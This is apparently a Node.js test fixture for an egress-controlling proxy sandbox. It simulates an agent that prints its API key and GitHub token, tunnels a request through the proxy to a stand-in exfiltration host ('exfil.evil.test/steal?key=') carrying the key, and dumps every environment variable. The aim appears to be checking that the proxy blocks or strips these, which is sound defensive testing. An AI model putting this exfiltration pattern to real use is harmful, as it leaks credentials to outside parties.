// A Node agent that knows nothing about Faramesh: stdlib http/https/tls only. Node before 22.21
// does not read HTTPS_PROXY itself, so, like an application using a proxy agent, it opens a
// CONNECT tunnel to $HTTPS_PROXY and speaks TLS through it; NODE_EXTRA_CA_CERTS makes it trust the
// run's CA.
'use strict';
const http = require('http');
const https = require('https');
const tls = require('tls');
const { execFileSync } = require('child_process');

const [allowedTls, evilTls, code] = process.argv.slice(2);
const key = process.env.OPENAI_API_KEY || '';
console.log('PID ' + process.pid);
console.log('KEY ' + key);
console.log('GITHUB ' + (process.env.GITHUB_TOKEN === undefined ? '<unset>' : process.env.GITHUB_TOKEN));
const proxy = new URL(process.env.HTTPS_PROXY);

function call(label, host, port, path) {
  return new Promise((resolve) => {
    const done = (s) => { console.log(label + ' ' + s); resolve(); };
    const connect = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: host + ':' + port });
    connect.on('connect', (res, socket) => {
      if (res.statusCode !== 200) { done('CONNECT ' + res.statusCode); socket.destroy(); return; }
      const req = https.request({
        host, port, path, method: 'GET', headers: { Authorization: 'Bearer ' + key },
        createConnection: () => tls.connect({ socket, servername: host, host }),
      }, (r) => {
        let body = '';
        r.setEncoding('utf8');
        r.on('data', (d) => { body += d; });
        r.on('end', () => done(r.statusCode + ' ' + body.trim().replace(/\n/g, ' ')));
      });
      req.on('error', (e) => done('ERROR ' + e.message));
      req.end();
    });
    connect.on('error', (e) => done('ERROR ' + e.message));
    connect.end();
  });
}

let input = '';
process.stdin.setEncoding('utf8');
process.stdin.on('data', async function onData(d) {
  input += d;
  if (!input.includes('\n')) return;
  process.stdin.removeListener('data', onData);
  process.stdin.pause();
  console.log('STDIN ' + input.trim());
  await call('ALLOWED', 'api.allowed.test', allowedTls, '/v1/models?key=' + key);
  await call('EVIL', 'exfil.evil.test', evilTls, '/steal?key=' + key);
  await call('DENIED', 'api.allowed.test', allowedTls, '/forbidden');
  for (const line of execFileSync('env', { encoding: 'utf8' }).split('\n')) {
    if (line) console.log('GRANDENV ' + line);
  }
  process.exit(Number(code));
});
